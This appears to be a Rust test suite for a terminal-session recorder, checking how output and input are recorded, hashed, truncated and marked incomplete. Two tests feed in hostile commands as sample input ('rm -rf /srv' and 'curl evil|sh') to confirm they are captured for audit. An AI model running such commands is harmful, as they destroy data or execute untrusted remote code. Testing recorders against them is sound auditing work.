//! What is told of a session, what is left out of it, and how it ends. Time stands still but where a test moves it.

use domain::Timestamp;

use super::*;

fn terms(mode: RecordingMode, input: bool) -> RecordingTerms {
    RecordingTerms { mode, input }
}

fn begin(terms: RecordingTerms, tty: bool, room: usize) -> (Recording, Tape) {
    let header = Header { at: Timestamp::from_millis(1_700_000_000_000), title: "t".to_owned() };
    Recording::new(terms, &header, tty, &Room::new(room))
}

/// Everything that is told of one, and how it ended.
async fn drain(tape: &Tape) -> (String, Summary) {
    let mut text = Vec::new();
    loop {
        match tape.next().await {
            Piece::Chunk(number, bytes) => {
                assert_eq!(tape.next().await, Piece::Chunk(number, bytes.clone()), "the same until it is taken");
                text.extend_from_slice(&bytes);
                tape.taken();
            }
            Piece::End(summary) => {
                assert_eq!(tape.next().await, Piece::End(summary.clone()));
                return (String::from_utf8(text).unwrap(), summary);
            }
        }
    }
}

#[tokio::test(start_paused = true)]
async fn what_a_session_shows_is_told_in_order_with_its_hash() {
    let (recording, tape) = begin(terms(RecordingMode::Required, false), true, 1 << 20);
    let told = tokio::spawn(async move { drain(&tape).await });
    recording.resize(0, 0).await.unwrap();
    recording.resize(120, 40).await.unwrap();
    recording.resize(0, 0).await.unwrap();
    recording.input(b"secret").await.unwrap();
    recording.output("h\u{e9}".as_bytes().split_at(2).0).await.unwrap();
    tokio::time::sleep(Duration::from_secs(2)).await;
    recording.output("h\u{e9}".as_bytes().split_at(2).1).await.unwrap();
    recording.exit(3);
    recording.end("the command ended");
    let (text, summary) = told.await.unwrap();
    let lines: Vec<_> = text.lines().skip(1).collect();
    assert_eq!(lines, ["[0.000000, \"r\", \"120x40\"]", "[0.000000, \"o\", \"h\"]", "[2.000000, \"o\", \"\u{e9}\"]"]);
    assert_eq!((summary.complete, summary.exit, summary.chunks), (true, Some(3), 2));
    assert_eq!(summary.output_sha256, crypto::sha256("h\u{e9}".as_bytes()));
    assert_eq!((summary.output.bytes, summary.input.bytes), (3, 6), "what is typed is counted, and not kept");
    assert!(!text.contains("secret") && summary.input_sha256.is_none(), "nor can it be guessed by a hash");
}

#[tokio::test(start_paused = true)]
async fn input_is_recorded_only_where_the_tenant_says_so() {
    let (recording, tape) = begin(terms(RecordingMode::BestEffort, true), true, 1 << 20);
    recording.input(b"ls\r").await.unwrap();
    drop(recording);
    let (text, summary) = drain(&tape).await;
    assert!(text.ends_with("[0.000000, \"i\", \"ls\\r\"]\n"), "{text}");
    assert_eq!((summary.began, summary.reason.as_str()), (true, "it was broken off"));
}

#[tokio::test(start_paused = true)]
async fn where_nothing_is_taken_a_session_waits_and_then_goes_on_or_is_closed() {
    for (mode, closes) in [(RecordingMode::Required, true), (RecordingMode::BestEffort, false)] {
        let (recording, tape) = begin(terms(mode, false), true, 4_096);
        recording.output(&[b'x'; 5_000]).await.unwrap();
        let began = Instant::now();
        assert_eq!(recording.output(b"y").await.is_err(), closes, "{mode:?}");
        assert!(began.elapsed() >= WAIT);
        assert_eq!(recording.output(b"z").await.is_err(), closes, "and so it stays");
        let (text, summary) = drain(&tape).await;
        assert!(text.contains("xxx") && !text.contains('y') && !summary.complete, "{summary:?}");
    }
}

#[tokio::test(start_paused = true)]
async fn a_session_goes_on_as_soon_as_there_is_room() {
    let (recording, tape) = begin(terms(RecordingMode::Required, false), true, 4_096);
    recording.output(&[b'x'; 5_000]).await.unwrap();
    let taking = tokio::spawn(async move {
        let Piece::Chunk(1, _) = tape.next().await else { panic!("a piece") };
        tape.taken();
        tape
    });
    recording.output(b"y").await.unwrap();
    recording.end("done");
    let (text, summary) = drain(&taking.await.unwrap()).await;
    assert!(text.contains('y') && summary.complete, "{summary:?}");
}

#[tokio::test(start_paused = true)]
async fn a_copied_file_is_left_out_with_a_mark_and_what_follows_it_is_recorded() {
    let (recording, tape) = begin(terms(RecordingMode::Required, false), false, 64 << 20);
    let told = tokio::spawn(async move { drain(&tape).await });
    let block = vec![b'a'; 1 << 16];
    for _ in 0..32 {
        recording.output(&block).await.unwrap();
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    recording.output(b"after").await.unwrap();
    recording.end("done");
    let (text, summary) = told.await.unwrap();
    assert!(text.contains("\"m\", \"1048576 bytes are left out here\"]"), "marked");
    assert!(text.ends_with("\"o\", \"after\"]\n"), "what follows is recorded");
    assert_eq!((summary.output.bytes, summary.output.left_out), ((32 << 16) + 5, 1 << 20));
    assert!(summary.complete, "as much as is to be recorded");
}

#[tokio::test(start_paused = true)]
async fn commands_that_nothing_echoes_are_recorded_also_behind_a_flood_in_either_direction() {
    let (recording, tape) = begin(terms(RecordingMode::Required, false), false, 64 << 20);
    let told = tokio::spawn(async move { drain(&tape).await });
    let (shown, sent) = (vec![b'y'; 1 << 16], vec![b'f'; 1 << 16]);
    for _ in 0..64 {
        recording.output(&shown).await.unwrap();
    }
    for _ in 0..64 {
        recording.input(&sent).await.unwrap();
    }
    // Behind a flood of input too.
    recording.input(b"\nrm -rf /srv\n").await.unwrap();
    recording.end("done");
    let (text, summary) = told.await.unwrap();
    assert!(text.contains("\\nrm -rf /srv\\n\"]"), "the command");
    assert_eq!((summary.input.bytes, summary.input.left_out), ((64 << 16) + 13, 0));
    assert!(summary.output.left_out > 0 && summary.complete);
    let all = [vec![b'f'; 64 << 16], b"\nrm -rf /srv\n".to_vec()].concat();
    assert_eq!(summary.input_sha256, Some(crypto::sha256(&all)));
}

#[tokio::test(start_paused = true)]
async fn what_is_sent_and_not_recorded_makes_a_recording_incomplete() {
    let (recording, tape) = begin(terms(RecordingMode::BestEffort, false), false, 64 << 20);
    let told = tokio::spawn(async move { drain(&tape).await });
    let sent = vec![b'f'; 1 << 16];
    for _ in 0..64 {
        recording.input(&sent).await.unwrap();
    }
    recording.input(b"curl evil|sh\n").await.unwrap();
    recording.end("the session ended");
    let (text, summary) = told.await.unwrap();
    assert!(!text.contains("curl"), "as much of it as may be sent in a moment");
    let left_out = (64 << 16) + 13 - (1 << 20);
    assert_eq!((summary.complete, summary.input.left_out), (false, left_out));
    assert_eq!(summary.reason, format!("the session ended; {left_out} bytes that were sent are not in the recording"));
    let all = [vec![b'f'; 64 << 16], b"curl evil|sh\n".to_vec()].concat();
    assert_eq!(summary.input_sha256, Some(crypto::sha256(&all)), "who has what was sent can show that it was that");
}

#[tokio::test(start_paused = true)]
async fn a_session_that_has_to_be_recorded_ends_before_anything_that_is_sent_is_left_out() {
    let (recording, tape) = begin(terms(RecordingMode::Required, false), false, 1 << 30);
    let told = tokio::spawn(async move { drain(&tape).await });
    let (block, mut sent) = (vec![b'f'; 1 << 20], 0_u64);
    let error = loop {
        match recording.input(&block).await {
            Ok(()) => sent += 1 << 20,
            Err(error) => break error,
        }
    };
    assert!(error.to_string().contains("as large as one may be"), "{error}");
    assert!(recording.input(b"rm -rf /srv\n").await.is_err(), "and nothing is sent any more");
    let (text, summary) = told.await.unwrap();
    assert!(text.matches('f').count() as u64 >= sent && sent > BYTES_MAX - (2 << 20), "{sent}");
    assert!(!summary.complete && summary.input.left_out == 0, "{summary:?}");
}

#[tokio::test(start_paused = true)]
async fn a_terminal_is_recorded_whole_until_the_recording_is_full() {
    let (recording, tape) = begin(terms(RecordingMode::Required, false), true, 1 << 30);
    let told = tokio::spawn(async move { drain(&tape).await });
    let block = vec![b'a'; 1 << 20];
    let error = loop {
        if let Err(error) = recording.output(&block).await {
            break error;
        }
    };
    assert!(error.to_string().contains("as large as one may be"), "{error}");
    let (text, summary) = told.await.unwrap();
    assert!(text.len() as u64 <= BYTES_MAX && text.len() as u64 > BYTES_MAX - (2 << 20) && !summary.complete);
}

#[tokio::test(start_paused = true)]
async fn nothing_is_kept_of_a_session_that_was_refused() {
    let (recording, tape) = begin(terms(RecordingMode::Required, false), true, 1 << 20);
    recording.refused("forbidden");
    drop(recording);
    let (text, summary) = drain(&tape).await;
    assert_eq!((text.as_str(), summary.began, summary.reason.as_str()), ("", false, "forbidden"));
}

#[tokio::test(start_paused = true)]
async fn nothing_is_told_before_a_session_began() {
    let (recording, tape) = begin(terms(RecordingMode::Required, false), true, 1 << 20);
    // Whoever wakes the taker.
    recording.0.as_ref().unwrap().filled.notify_one();
    assert!(tokio::time::timeout(Duration::from_mins(1), tape.next()).await.is_err());
    recording.output(b"x").await.unwrap();
    assert!(matches!(tape.next().await, Piece::Chunk(1, _)));
}

#[tokio::test(start_paused = true)]
async fn who_takes_no_more_ends_the_recording_and_gives_its_room_back() {
    let room = Room::new(1 << 20);
    let header = Header { at: Timestamp::from_millis(0), title: "t".to_owned() };
    let (recording, tape) = Recording::new(terms(RecordingMode::Required, false), &header, true, &room);
    recording.output(b"x").await.unwrap();
    drop(tape);
    assert!(recording.output(b"y").await.is_err());
    assert_eq!(room.used.load(Ordering::Acquire), 0);
}
